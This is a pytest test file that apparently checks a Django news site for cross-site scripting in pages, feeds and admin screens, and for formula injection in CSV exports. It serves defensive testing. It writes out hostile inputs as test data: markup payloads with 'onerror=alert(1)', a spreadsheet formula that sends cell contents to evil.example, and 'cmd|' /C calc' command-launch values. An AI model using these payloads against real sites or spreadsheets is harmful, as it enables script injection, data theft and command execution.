"""Whatever sources and editors write, browsers show it and run none of it.

Faults 57 to 59. Each walk goes over the site twice: first while it holds harmless
words, then with every payload in every text. What pages are built of the first time
is all that they may be built of.
"""

import csv
import io
import json
import re
from collections.abc import Iterable, Iterator, Sequence
from html import escape
from itertools import cycle
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import Permission
from django.db.models import Model
from django.test import Client
from django.utils import timezone
from PIL import Image as Pillow
from playwright.sync_api import Browser, Dialog, Page, Request, expect
from pytest_django.live_server_helper import LiveServer

from articles import workflow
from articles.images import library
from articles.ingest.entries import LIMITS
from articles.ingest.text import clean
from articles.models import (
    Act,
    Article,
    Category,
    Feed,
    FetchAttempt,
    RefusedRecord,
    Sighting,
    Source,
    SourceChange,
    Tag,
    TagPhrase,
    Tombstone,
)
from articles.names import name_key
from articles.rights import Channel, permitted
from articles.tagging import suggestions
from articles.tagging.tags import add_alias
from tests.commands.invocation import import_articles, invoke, ndjson
from tests.factories import ArticleFactory, SourceFactory
from tests.ingest.test_hostile_markup import (
    BODY_ATTRIBUTES,
    BODY_TAGS,
    HOSTILE,
    PAYLOADS,
)

#: What the pieces of a walk are called: their host, and the tags they stand under.
HARMLESS, MENACING = "harmless", "menacing"
#: Pieces of one kind under one tag: as many as a feed shows.
GROUP = 50

# What payloads call. A script that runs at all comes by here, or breaks the policy.
ALARM = """
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...words) => { window.ring(`${name}(${words})`); };
}
"""

# What a page is built of: of each element its parent, its name and the names of its
# attributes. Within a text that was sanitised (.body), what is not allowed there.
# Everywhere, addresses that lead to anything but pages. Methods are taken from the
# prototypes, since the fields of a form can stand in their place.
ANATOMY = """
([tags, attributes]) => {
  const namesOf = (e) => Element.prototype.getAttributeNames.call(e);
  const valueOf = (e, name) => Element.prototype.getAttribute.call(e, name);
  const addresses = ["action", "background", "cite", "data", "formaction", "href",
                     "ping", "poster", "src", "srcset", "xlink:href"];
  const parts = new Set();
  const faults = [];
  for (const element of document.querySelectorAll("*")) {
    const tag = element.localName;
    for (const name of addresses) {
      const value = valueOf(element, name);
      if (value === null) continue;
      let scheme = "none";
      try { scheme = new URL(value, location.href).protocol; } catch {}
      if (!["http:", "https:", "mailto:"].includes(scheme)) {
        faults.push(`<${tag} ${name}=${value}>`);
      }
    }
    if (!element.parentElement?.closest(".body")) {
      const parent = element.parentElement?.localName ?? "";
      parts.add(`${parent} > ${tag} ${namesOf(element).sort().join(" ")}`);
      continue;
    }
    if (!tags.includes(tag)) faults.push(`<${tag}> in a text`);
    for (const name of namesOf(element)) {
      if (!(attributes[tag] ?? []).includes(name)) {
        faults.push(`<${tag} ${name}> in a text`);
      }
    }
  }
  return { parts: [...parts], faults };
}
"""

# The words of every piece of a listing, by its number.
CARDS = """
() => Object.fromEntries([...document.querySelectorAll("article")].map((card) => {
  const text = (selector) => card.querySelector(selector)?.textContent ?? "";
  const number = card.querySelector("h3 a").pathname.split("/")[2];
  return [number, {
    headline: text("h3 a"),
    source: text(".source bdi"),
    category: text(".category"),
    note: text(".note"),
    excerpt: text(".excerpt"),
    tags: [...card.querySelectorAll(".tags a")].map((tag) => tag.textContent).sort(),
  }];
}))
"""


#: Fields for tags are completed by a script, which wraps each.
IS_BUILT = "() => !document.querySelector('input[data-tag-names]:not([data-enhanced])')"


class Visitor:
    """Opens pages as they are served, and as if they came without a policy.

    Behind the policy the ``page`` fixture hears of every breach. Without it, a
    script that got into a page would run, and ring.
    """

    def __init__(self, guarded: Page, bare: Page) -> None:
        self.guarded, self.bare = guarded, bare
        self.faults: list[str] = []
        self._parts: dict[str, str] = {}
        for page in (guarded, bare):
            # A page of a hundred pieces comes in its own time, where others work too.
            page.set_default_navigation_timeout(60_000)
            page.context.expose_binding("ring", self._hear)
            page.context.add_init_script(ALARM)
            page.on("dialog", self._dismiss)

    def _hear(self, source: Any, what: str) -> None:
        self.faults.append(f"{source['page'].url} ran {what}")

    def _dismiss(self, dialog: Dialog) -> None:
        self.faults.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def open(self, paths: Sequence[str]) -> None:
        """All of them without a policy, and some as they are served."""
        self.open_bare(paths)
        for path in paths[::5]:
            self._open(self.guarded, path)

    def open_bare(self, paths: Iterable[str]) -> None:
        """Without a policy only: the browser's own view of XML would breach ours."""
        for path in paths:
            self._open(self.bare, path)

    def _open(self, page: Page, path: str) -> None:
        answer = page.goto(path)
        assert answer is not None
        assert answer.status in (200, 400, 404), path
        assert page.url.endswith(path), f"{path} led to {page.url}"
        self.examine(page)

    def examine(self, page: Page) -> None:
        """Note what the open page is built of, once its scripts have built it."""
        page.wait_for_function(IS_BUILT)
        allowed = {tag: sorted(names) for tag, names in BODY_ATTRIBUTES.items()}
        seen = page.evaluate(ANATOMY, [sorted(BODY_TAGS), allowed])
        self.faults += [f"{page.url}: {fault}" for fault in seen["faults"]]
        for part in seen["parts"]:
            self._parts.setdefault(part, page.url)

    def parts(self) -> dict[str, str]:
        """What the pages since the last call were built of, each with a page."""
        parts, self._parts = self._parts, {}
        return parts


@pytest.fixture
def bare(browser: Browser, live_server: LiveServer) -> Iterator[Page]:
    """A page for which no Content-Security-Policy counts.

    What it asks elsewhere goes to a proxy that is none. Sheets and pictures are left
    out: only the page itself matters.
    """
    with browser.new_context(
        base_url=live_server.url,
        bypass_csp=True,
        locale="en-GB",
        proxy={"server": "http://127.0.0.1:9", "bypass": "localhost"},
        timezone_id="UTC",
    ) as context:
        page = context.new_page()
        devices = context.new_cdp_session(page)
        devices.send("Network.enable")
        devices.send("Network.setBlockedURLs", {"urls": ["*.css", "*.svg", "*.jpg"]})
        yield page


@pytest.fixture
def visitor(page: Page, bare: Page, live_server: LiveServer) -> Visitor:
    visitor = Visitor(page, bare)

    def note(request: Request) -> None:
        if not request.url.startswith(f"{live_server.url}/"):
            visitor.faults.append(f"request to {request.url}")

    bare.context.on("request", note)
    return visitor


@pytest.fixture
def payloads(shared: Path) -> list[str]:
    """Ours, and those that others have collected."""
    cases = json.loads((shared / "xss/payloads.json").read_text(encoding="utf-8"))
    return [*PAYLOADS, *(case["payload"] for case in cases)]


def harmless(count: int) -> list[str]:
    return [f"Plain words & more, number {number}" for number in range(count)]


def record(words: str, number: int, kind: str) -> dict[str, Any]:
    """A record with these words in every text, as much of them as may be.

    The number behind a name keeps it from being another spelling of the last.
    """
    lines = ("author", "external_id", "image_caption", "image_credit")
    name = f"{words[:90]} {number}"
    return {name: words[: LIMITS[name]] for name in lines} | {
        "url": f"https://{kind}.example/{number}?{quote(words[:300], errors='ignore')}",
        "title": f"{words[:490]} {number}",
        "source": name,
        "category": name,
        "summary": words,
        "body": words,
        "tags": [group(kind, "records", number), name],
    }


def group(kind: str, form: str, number: int) -> str:
    """The tag of every piece of a group."""
    return f"{kind} {form} {number // GROUP}"


def records(words: Sequence[str], kind: str) -> Iterator[dict[str, Any]]:
    """Two for each: one that is taken, one that names no language and is refused."""
    for number, each in enumerate(words):
        yield record(each, number, kind)
        yield record(each, number, kind) | {"language": f"{each} {number}"}


def in_xml(text: str) -> str:
    """As far as XML can hold it (XML 1.0, 2.2), in text or in an attribute."""
    return escape(
        re.sub("[^\t\n\r -\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "", text)
    )


def rss(words: Sequence[str], kind: str) -> bytes:
    def item(number: int, text: str) -> str:
        return f"""<item><link>https://{kind}.example/rss/{number}</link>
        <title>{number} {text}</title><guid>{text} r{number}</guid>
        <description>{text}</description><content:encoded>{text}</content:encoded>
        <author>{text}</author><dc:creator>{text}</dc:creator>
        <dc:language>{text}</dc:language><comments>{text}</comments>
        <category>{group(kind, "RSS", number)}</category>
        <category domain="{text}">{text} r{number}</category>
        <source url="{text}">{text} r{number}</source>
        <enclosure url="{text}" type="{text}" length="{text}"/>
        <media:content url="{text}" medium="image"/><media:credit>{text}</media:credit>
        <media:description>{text}</media:description></item>"""

    items = (item(number, in_xml(each)) for number, each in enumerate(words))
    return f"""<?xml version="1.0"?><rss version="2.0"
        xmlns:content="http://purl.org/rss/1.0/modules/content/"
        xmlns:dc="http://purl.org/dc/elements/1.1/"
        xmlns:media="http://search.yahoo.com/mrss/"><channel>
        <title>{in_xml(words[-1])}</title><link>https://{kind}.example/</link>
        {"".join(items)}</channel></rss>""".encode()


def atom(words: Sequence[str], kind: str) -> bytes:
    def entry(number: int, text: str) -> str:
        return f"""<entry><link href="https://{kind}.example/atom/{number}"/>
        <title type="html">{number} {text}</title><id>{text} a{number}</id>
        <summary>{text}</summary><content type="html">{text}</content>
        <author><name>{text}</name><uri>{text}</uri><email>{text}</email></author>
        <category term="{group(kind, "Atom", number)}"/>
        <category term="{text} a{number}" label="{text} a{number}" scheme="{text}"/>
        <link rel="enclosure" type="image/png" href="{text}"/><rights>{text}</rights>
        <source><title>{text} a{number}</title><id>{text}</id></source></entry>"""

    entries = (entry(number, in_xml(each)) for number, each in enumerate(words))
    return f"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">
        <title>{in_xml(words[-1])}</title>{"".join(entries)}</feed>""".encode()


def arrive(
    words: Sequence[str], kind: str, folder: Path, *, with_feeds: bool = True
) -> None:
    """Import the words as records, as RSS and as Atom, and publish them."""
    folder /= "' onload=alert(1) x='<img src=x onerror=alert(1)>"
    folder.mkdir(exist_ok=True)
    files = {"records.ndjson": ndjson(records(words, kind))}
    if with_feeds:
        files |= {"rss.xml": rss(words, kind), "atom.xml": atom(words, kind)}
    for name, content in files.items():
        (folder / name).write_bytes(content)
        done = import_articles(folder / name, "--status", "published")
        is_feed = name.endswith(".xml")
        created = len(words) if is_feed else sum(each == stored(each) for each in words)
        assert done.counts["created"] == created, done.err
        assert done.counts.get("failed", 0) == (
            0 if is_feed else 2 * len(words) - created
        )


def stored(text: str) -> str:
    """What a form would take of it."""
    return text.replace("\0", "").encode("utf-8", "ignore").decode()


def dress(words: Sequence[str], kind: str) -> None:
    """Give pieces and subjects what else they can have, written by people."""
    Source.objects.update(reuse="full_text", site_url="https://publisher.example/")
    stream = io.BytesIO()
    Pillow.new("RGB", (64, 48), "red").save(stream, "JPEG")
    stream.seek(0)
    image = library.store(stream)
    pieces = list(pieces_of(kind))
    for number, (piece, text) in enumerate(zip(pieces, cycle(words), strict=False)):
        piece.image = image if number % 2 else None
        piece.image_alt = piece.image_caption = piece.image_credit = stored(text)[:200]
        piece.note = stored(text)
        piece.headline = stored(text)[:500] if number % 3 else ""
        piece.excerpt = stored(text) if number % 3 else ""
    edited = ("image", "image_alt", "image_caption", "image_credit", "note", "headline")
    Article.objects.bulk_update(pieces, [*edited, "excerpt"], batch_size=100)
    for model in (Source, Category, Tag):
        rows = list(model._default_manager.filter(description=""))
        for row, text in zip(rows, cycle(words), strict=False):
            row.description = stored(text)
        model._default_manager.bulk_update(rows, ["description"], batch_size=100)


def pieces_of(kind: str) -> Any:
    return Article.objects.filter(url__startswith=f"https://{kind}.").order_by("pk")


def in_lines(words: Iterable[str], most: int) -> list[str]:
    """The words put together to lines of at most so many characters."""
    lines = [""]
    for each in words:
        text = stored(each)[:most]
        if len(lines[-1]) + len(text) >= most:
            lines.append("")
        lines[-1] = f"{lines[-1]} {text}".strip()
    return lines


def listings(size: int) -> list[str]:
    """Pages of many pieces: all of home, some of each kind of subject."""
    newest = Article.objects.published().order_by("-listed_at", "-pk")
    cursors = newest.values_list("pk", flat=True)[size - 1 :: size]
    subjects = [*samples(Source), *samples(Category), *samples(Tag)]
    return [
        *("/", "/tags/", f"/?page_size={size}"),
        *(f"/?page_size={size}&after={cursor}" for cursor in cursors),
        *(f"{subject.get_absolute_url()}?page_size=100" for subject in subjects),
    ]


def samples(model: type[Model]) -> Any:
    rows = model._default_manager.order_by("-pk")
    return rows[:: 1 + rows.count() // 3]


def documents(kind: str) -> Iterator[str]:
    """Of every format the feeds that together hold all pieces' texts; the sitemap."""
    yield from ("/feed.rss", "/feed.atom", "/feed.json", "/sitemap.xml")
    forms = {"records": "rss", "RSS": "atom", "Atom": "json"}
    for tag in Tag.objects.filter(name__startswith=f"{kind} "):
        yield f"{tag.get_absolute_url()}feed.{forms[tag.name.split()[1]]}"
    for model in (Source, Category, Tag):
        for subject, form in zip(samples(model), forms.values(), strict=False):
            yield f"{subject.get_absolute_url()}feed.{form}"


def articles(kind: str) -> list[str]:
    """The pages of pieces, one for each different text of a record; some others."""
    pieces = pieces_of(kind)
    others = list(pieces.exclude(url__contains="?"))
    found = {piece.source_body: piece for piece in pieces.filter(url__contains="?")}
    return [piece.get_absolute_url() for piece in [*found.values(), *others[::40]]]


def questions(words: Iterable[str]) -> list[str]:
    """Addresses that bring words along: to be looked for, to be refused."""
    lines = in_lines(words, 200)
    odd = [urlencode({"language": line, "from": line}) for line in lines[::4]]
    return [
        *(f"/search/?{urlencode({'q': line})}" for line in lines),
        *(f"/?{query}" for query in odd),
        *(f"/tags/{quote(line, safe='')}/" for line in lines[::4]),
    ]


def words_on_cards() -> dict[str, dict[str, Any]]:
    """What cards should say of each public piece, by its number."""
    rows = Article.objects.published().select_related("source", "category", "image")
    return {str(piece.pk): _words(piece) for piece in rows.prefetch_related("tags")}


def _words(piece: Article) -> dict[str, Any]:
    shown = permitted(piece, Channel.LISTING)
    texts = {
        "headline": shown.headline,
        "source": piece.source.name,
        "category": piece.category.name,
        "note": shown.note,
        "excerpt": shown.excerpt,
    }
    # Browsers read every line break as LF (HTML, 13.2.3.5).
    said = {name: re.sub("\r\n?", "\n", text) for name, text in texts.items()}
    return said | {"tags": sorted(f"#{tag.name}" for tag in piece.tags.all())}


@pytest.mark.browser
def test_what_runs_in_a_page_is_heard_and_what_is_strange_in_it_is_seen(
    visitor: Visitor,
) -> None:
    """Fault 58."""
    kinds = ("scripts", "events", "frames and players", "quotes and half tags")
    page = visitor.bare
    page.goto("/robots.txt")
    heard, seen = set(), set()
    for payload in (payload for kind in kinds for payload in HOSTILE[kind]):
        visitor.parts()
        page.evaluate("markup => { document.body.innerHTML = markup }", payload)
        visitor.examine(page)
        if len(visitor.parts()) > len(("html", "head", "meta", "body")):
            seen.add(payload)
        if any(" ran " in fault for fault in visitor.faults):
            heard.add(payload)
        visitor.faults.clear()

    assert len(seen) > 35
    assert len(heard) > 5


def assert_is_built_of(found: dict[str, str], known: dict[str, str]) -> None:
    strange = [
        f"{part} ({found[part]})" for part in sorted(found.keys() - known.keys())
    ]
    assert strange == []


@pytest.mark.browser
def test_readers_meet_words_and_nothing_that_runs(
    visitor: Visitor, payloads: list[str], tmp_path: Path
) -> None:
    """Fault 58."""
    arrive(harmless(3), HARMLESS, tmp_path)
    dress(harmless(3), HARMLESS)
    visitor.open(listings(2))
    visitor.open(articles(HARMLESS))
    # The days of a search have no pages to lead to.
    name = Tag.objects.listed().values_list("name", flat=True)[0]
    visitor.open(questions(["Nothing holds these words"]))
    visitor.open(["/search/", f"/search/?{urlencode({'q': name})}"])
    visitor.open_bare(documents(HARMLESS))
    known = visitor.parts()
    arrive(payloads, MENACING, tmp_path)
    dress(payloads, MENACING)
    expected = words_on_cards()
    seen = {}

    for path in listings(100):
        visitor.open([path])
        seen |= visitor.bare.evaluate(CARDS)
    visitor.open(articles(MENACING))
    visitor.open(questions([*HOSTILE["quotes and half tags"], *HOSTILE["events"]]))
    visitor.open_bare(documents(MENACING))
    # Few enough sources for a menu of them.
    shown = Source.objects.order_by("pk").values("pk")[20:60]
    Source.objects.exclude(pk__in=shown).update(reuse="blocked")
    visitor.open(["/search/?q=nothing"])
    assert visitor.bare.locator("[name=source] option").count() == 41

    assert_is_built_of(visitor.parts(), known)
    assert visitor.faults == []
    assert len(seen) > 3 * len(payloads) - 10
    assert seen == {number: expected[number] for number in seen}


def edit(client: Client, piece: Article, words: Sequence[str], **more: str) -> None:
    """Post the change form as no browser's widgets would, all fields changed."""
    address = f"/admin/articles/article/{piece.pk}/change/"
    form = client.get(address).context["adminform"].form
    data = {}
    for bound in form:
        shown = bound.value()
        if bound.field.show_hidden_initial:
            data[bound.html_initial_name] = "" if shown is None else shown
        elif bound.is_hidden:
            data[bound.html_name] = "" if shown is None else shown
    text = "\n".join(map(stored, words))
    answer = client.post(
        address,
        data
        | {
            "headline": f"{stored(words[0])[:480]} {piece.pk}",
            "note": text,
            "excerpt": text,
            "category": piece.category_id,
            "image_alt": text[:500],
            "image_caption": text[-1000:],
            "image_credit": text[:200],
            "tags": f"{data['initial-tags']}, {clean(words[0])[:90]}",
        }
        | more,
    )
    assert answer.status_code == 302, answer.context["adminform"].form.errors


def work(words: Sequence[str], kind: str, editor: Any) -> list[Article]:
    """What editors and fetches add: edits, reasons, changes, feeds, problems.

    Returns the pieces that have been worked on.
    """
    client = Client()
    client.force_login(editor)
    lines, now = in_lines(words, 900), timezone.now()
    text = "\n".join(map(stored, words))
    pieces = list(pieces_of(kind)[:3])
    changed = []
    for number, piece in enumerate(pieces[:2]):
        own = words[number:] + words[:number]
        edit(client, piece, own, reason=lines[0], _move="unpublish")
        edit(client, piece, own[::-1], reason=lines[-1], _move="publish")
        again = {"url": piece.url, "source": piece.source.name}
        again |= {"summary": escape(text)[:20_000], "body": text}
        changed.append(record(own[-1], number, kind) | again)
    for line in lines:
        workflow.move(pieces[0], "unpublish", by=editor, reason=line)
        workflow.move(pieces[0], "publish", by=editor, reason=line)
    assert import_articles("-", stdin=ndjson(changed)).code == 0
    assert SourceChange.objects.pending().filter(article__in=pieces).count() == 2
    source = pieces[0].source
    for number, line in enumerate(lines[:12]):
        address = f"https://{kind}.example/feed/{number}"
        feed = Feed.objects.create(
            source=source,
            url=address,
            title=line[:200] if number % 2 else "",
            problem=line,
            failures=number % 2,
            failing_since=now if number % 2 else None,
            moved_to=f"{address}?new",
            moved_seen=1,
            last_success_at=now,
        )
        FetchAttempt.objects.create(
            feed=feed, at=now, outcome="failed", kind="dns", reason=line, notes=[line]
        )
    for number, piece in enumerate(pieces_of(kind)[3:6]):
        Sighting.objects.create(
            article=pieces[number],
            source=piece.source,
            url=piece.url,
            headline=piece.source_headline,
            seen_at=now,
        )
    Article.objects.filter(pk=pieces[2].pk).update(image_problem=text[:300], image=None)
    workflow.delete([piece.pk for piece in pieces_of(kind)[6:9]], by=editor)
    tag = Tag.objects.filter(name__startswith=kind).order_by("pk")[0]
    for number, each in enumerate(words[:20]):
        add_alias(tag, f"{clean(each)[:80]} alias {kind} {number}")
        TagPhrase.objects.get_or_create(tag=tag, text=clean(each)[:80])
    suggestions.recompute()
    return pieces


def retag(page: Page, piece: Article, word: str) -> Iterator[None]:
    """Stops where the choices of the tag field are open, and after saving."""
    page.goto(f"/admin/articles/article/{piece.pk}/change/")
    tags = page.get_by_role("combobox", name="Tags")
    tags.fill("")
    tags.press_sequentially(word)
    expect(page.locator(".tag-choices").get_by_role("option").first).to_be_visible()
    yield
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.locator(".messagelist")).to_contain_text(piece.shown_headline)
    yield


def screens(worked: Sequence[Article]) -> list[str]:
    """The addresses of the admin, with the pieces that have been worked on."""
    room = "/admin/articles"
    lists = [f"{room}/article/?p={number}" for number in (1, 2, 3)]
    lists += [
        f"{room}/article/?{query}" for query in ("changed=yes", "tagging=suggested")
    ]
    for model in (Source, Category, Tag, Feed, FetchAttempt, RefusedRecord, Tombstone):
        name = model._meta.model_name
        lists.append(f"{room}/{name}/")
        row = model._default_manager.order_by("-pk")[0]
        lists.append(f"{room}/{name}/{row.pk}/change/")
    lists += [
        f"{room}/tag/{pk}/change/"
        for pk in TagPhrase.objects.values_list("tag", flat=True).distinct()
    ]
    pieces = [
        f"{room}/article/{piece.pk}/{page}/"
        for piece in worked
        for page in ("change", "history")
    ]
    pieces.append(f"{room}/article/{worked[0].pk}/delete/")
    acts = [f"{room}/act/"]
    for act in Act.objects.newest_first()[:5]:
        acts += [f"{room}/act/{act.pk}/{page}/" for page in ("change", "undo")]
    run = f"{room}/importrun/"
    return ["/admin/", *pieces, *acts, *lists, run, f"{room}/article/add/"]


@pytest.mark.browser
def test_editors_meet_words_and_nothing_that_runs(
    visitor: Visitor, signed_in: Any, payloads: list[str], tmp_path: Path
) -> None:
    """Fault 58."""
    rights = Permission.objects.filter(content_type__app_label="articles")
    signed_in.user_permissions.set(rights)
    visitor.bare.context.add_cookies(visitor.guarded.context.cookies())
    arrive(harmless(110), HARMLESS, tmp_path, with_feeds=False)
    dress(harmless(110), HARMLESS)
    worked = work(harmless(110), HARMLESS, signed_in)
    visitor.open(screens(worked))
    for _ in retag(visitor.bare, worked[2], "plain"):
        visitor.examine(visitor.bare)
    known = visitor.parts()
    arrive(payloads, MENACING, tmp_path, with_feeds=False)
    dress(payloads, MENACING)

    worked = work(payloads, MENACING, signed_in)
    visitor.open(screens(worked))
    for page in (visitor.guarded, visitor.bare):
        for _ in retag(page, worked[2], "script"):
            visitor.examine(page)

    assert_is_built_of(visitor.parts(), known)
    assert visitor.faults == []
    page.goto(f"/admin/articles/article/{worked[0].pk}/change/")
    assert page.locator("[name=note]").input_value().count("alert(1)") > 200
    assert (page.locator(".source-change").text_content() or "").count("alert(1)") > 50
    page.goto(f"/admin/articles/article/{worked[0].pk}/history/")
    assert (page.locator("#content").text_content() or "").count("alert(1)") > 200


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["rss", "atom", "json"])
def test_a_control_character_that_an_editor_pastes_breaks_no_feed(
    client: Client, form: str
) -> None:
    """Fault 58."""
    pasted = "One\x0btwo \x1b[0m\uffff three\u202e"
    source = SourceFactory(name=f"S {pasted}")
    ArticleFactory(
        published=True,
        headline=pasted,
        note=pasted,
        source=source,
        tags=[f"T {pasted}"],
    )

    answer = client.get(f"/feed.{form}")

    assert answer.status_code == 200
    if form == "json":
        assert answer.json()["items"][0]["title"] == "One\ntwo [0m three"
    else:
        root = ElementTree.fromstring(answer.content)
        titles = [each.text for each in root.iter() if each.tag.endswith("title")]
        assert "One\ntwo [0m three" in titles


#: Titles that a spreadsheet would run, also behind what it drops before them.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "=1+1;=2+2,=3+3",
    "a|=1+1",
)


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_exports_hold_no_formula_and_come_back_as_they_went(
    form: str, payloads: list[str]
) -> None:
    """Fault 58."""
    words = [each for each in [*FORMULAS, *payloads[::4]] if each == stored(each)]
    sent = [record(each, number, MENACING) for number, each in enumerate(words)]
    assert import_articles("-", stdin=ndjson(sent)).counts["created"] == len(words)
    before = exported()
    content = invoke("export_articles", f"--format={form}").out

    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    firsts = {cell.lstrip(' "')[:1] for cell in cells if form == "csv"}
    again = import_articles("-", stdin=content.encode())

    assert firsts & set("=+-@\t\r\n") == set()
    assert again.counts == {"read": len(words), "unchanged": len(words)}, again.err
    assert exported() == before
    for model in (Article, Source, Category, Tag):
        model._default_manager.all().delete()
    import_articles("-", stdin=content.encode())
    assert exported() == before


def exported() -> list[dict[str, Any]]:
    """The records that leave, in the order of their addresses, tags by their keys."""
    lines = invoke("export_articles", "--format=ndjson").out.split("\n")
    rows = [json.loads(line) for line in lines if line]
    for row in rows:
        row["tags"] = sorted(map(name_key, row["tags"]))
    return sorted(rows, key=lambda row: str(row["url"]))
